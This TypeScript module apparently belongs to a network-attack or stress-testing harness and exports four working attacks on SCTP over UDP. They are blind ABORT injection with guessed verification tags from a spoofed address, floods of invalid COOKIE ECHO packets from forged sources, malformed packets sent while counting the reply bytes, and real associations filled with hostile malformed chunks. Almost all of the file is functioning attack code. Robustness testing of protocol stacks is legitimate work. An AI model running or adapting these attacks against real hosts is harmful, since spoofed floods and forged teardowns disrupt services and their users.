import { createSocket, type Socket } from 'node:dgram'
import { once } from 'node:events'
import { setTimeout as delay } from 'node:timers/promises'

import { Forger } from '../network/forge.ts'
import { type Attack, type Attacked, repeat } from './attack.ts'
import { chunk, init, initPacket, packet } from './sctp-packets.ts'
import { forgedSource } from './udp-attacks.ts'

const IPV4_PARAMETER = [0, 5, 0, 8]
const addresses = Uint8Array.from(
  Array.from({ length: 180 }, (_, number) => [...IPV4_PARAMETER, 10, 77, 0, number]).flat(),
)
/** Parameters of a type that asks for a report (RFC 9260, section 3.2.1). */
const unknownParameters = Uint8Array.from(
  Array.from({ length: 350 }, () => [0xff, 0xff, 0, 4]).flat(),
)

/** ABORT and SHUTDOWN COMPLETE with guessed tags, of the host of a client and all its ports. */
const blindAborts: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  return await repeat(signal, 1_000, (number) => {
    const payload = packet(
      (number * 2_654_435_761) >>> 0,
      chunk(number % 2 ? 6 : 14, new Uint8Array()),
    )
    forger.send({ from: { address: '10.77.0.2', port: 9_899 }, to: target, payload })
  })
}

const STRANGE_PACKETS = [
  packet(0, init(addresses)),
  packet(0, init(unknownParameters)),
  // Out of the blue (RFC 9260, section 8.4).
  packet(7, chunk(8, new Uint8Array()), chunk(0, new Uint8Array(500))),
  // Chunks of a type that asks for a report.
  packet(7, ...Array.from({ length: 300 }, () => chunk(0x7f, new Uint8Array()))),
  // Chunks of length 0.
  packet(7, new Uint8Array(1_000)),
]

/** What no stack sends, from its own address; bytes that come back are counted. */
const strangePackets: Attack = async (target, signal) => {
  const socket = createSocket('udp4')
  let [asked, answered] = [0, 0]
  socket.on('message', ({ length }) => {
    answered += length
  })
  socket.bind(0)
  const counts = await repeat(signal, 1_000, (number) => {
    const bytes = STRANGE_PACKETS[number % STRANGE_PACKETS.length] ?? new Uint8Array()
    asked += bytes.length
    socket.send(bytes, target.port, target.address)
  })
  await delay(500)
  socket.close()
  return { ...counts, asked, answered }
}

/** COOKIE ECHO with an invalid cookie, from forged sources. */
const garbageCookies: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  const payload = packet(7, chunk(10, new Uint8Array(300).fill(0x5a)))
  return await repeat(signal, 1_000, (number) =>
    forger.send({ from: forgedSource(number), to: target, payload }),
  )
}

/** DATA (RFC 9260, section 3.3.1) of one byte; the flags are U, B and E. */
function data(tsn: number, stream: number, sequence: number, flags = 3): Uint8Array {
  const value = Buffer.alloc(13)
  value.writeUInt32BE(tsn >>> 0, 0)
  value.writeUInt16BE(stream, 4)
  value.writeUInt16BE(sequence & 0xffff, 6)
  return chunk(0, value, flags)
}

/** Of the next packet of each kind; `number` counts up from 0. */
const HOSTILE_CHUNKS: readonly ((number: number) => Uint8Array[])[] = [
  // Far ahead, every other TSN, downwards; sequence numbers that jump; streams that do not exist.
  (number) =>
    Array.from({ length: 60 }, (_, index) => data(60_000 - number * 120 - 2 * index, 0, 1)),
  (number) => Array.from({ length: 60 }, (_, index) => data(number * 60 + index, 1, 7 * index)),
  (number) => Array.from({ length: 60 }, (_, index) => data(number * 60 + index, 60_000, 0)),
  // Fragments without a beginning, and without an end.
  (number) => Array.from({ length: 60 }, (_, index) => data(number * 60 + index, 2, 0, 0)),
  () => Array.from({ length: 60 }, () => data(2 ** 31 - 1, 3, 0, 2)),
  () => Array.from({ length: 300 }, () => chunk(4, new Uint8Array())),
  () => [chunk(4, new Uint8Array(1_400))],
  // ASCONF, FORWARD-TSN, RE-CONFIG, AUTH, I-DATA: extensions that were not agreed on.
  () => [0xc1, 0xc0, 0x82, 0x0f, 0x40].map((type) => chunk(type, new Uint8Array(200))),
  () => Array.from({ length: 300 }, () => chunk(0xc1, new Uint8Array())),
  () => Array.from({ length: 300 }, () => chunk(9, new Uint8Array())),
  // A SACK of what was never sent, and 300 times the same duplicate.
  () => [chunk(3, new Uint8Array(12 + 300 * 4))],
  () => [3, 8, 10, 11, 14, 2, 1].map((type) => chunk(type, new Uint8Array(4))),
  () => Array.from({ length: 100 }, () => chunk(7, new Uint8Array(4))),
]

interface Answer {
  tag: number
  cookie: Uint8Array
}

/** The tag and the state cookie (parameter 7) of an INIT ACK; undefined for another packet. */
function readInitAck(bytes: Buffer): Answer | undefined {
  if (bytes[12] !== 2) return undefined
  for (let at = 32; at + 4 <= bytes.length; at += (bytes.readUInt16BE(at + 2) + 3) & ~3) {
    const end = at + bytes.readUInt16BE(at + 2)
    if (bytes.readUInt16BE(at) === 7)
      return { tag: bytes.readUInt32BE(16), cookie: Buffer.from(bytes.subarray(at + 4, end)) }
    if (end < at + 4) return undefined
  }
  return undefined
}

/** An association, by the book so far. @returns its tag; undefined when it was refused */
async function associate(
  socket: Socket,
  { address, port }: Attacked,
  signal: AbortSignal,
): Promise<number | undefined> {
  socket.send(initPacket(), port, address)
  const [message] = (await once(socket, 'message', { signal })) as [Buffer]
  const answer = readInitAck(message)
  if (answer === undefined) return undefined
  socket.send(packet(answer.tag, chunk(10, answer.cookie)), port, address)
  return answer.tag
}

const PACKETS_OF_A_KIND = 20

/** Associations of its own, in which it says nothing that makes sense, each ended by ABORT. */
const insideAssociations: Attack = async (target, signal) => {
  let associations = 0
  for (let round = 0; !signal.aborted; round += 1) {
    const socket = createSocket('udp4')
    const tag = await associate(socket, target, signal).catch(() => undefined)
    const kind = HOSTILE_CHUNKS[round % HOSTILE_CHUNKS.length]
    if (tag !== undefined && kind !== undefined) {
      associations += 1
      for (let number = 0; number < PACKETS_OF_A_KIND; number += 1)
        socket.send(packet(tag, ...kind(number)), target.port, target.address)
      socket.send(packet(tag, chunk(6, new Uint8Array())), target.port, target.address)
    }
    await delay(10)
    socket.close()
  }
  return { associations }
}

export const sctpAttacks: Readonly<Record<string, Attack>> = {
  blindAborts,
  garbageCookies,
  strangePackets,
  insideAssociations,
}
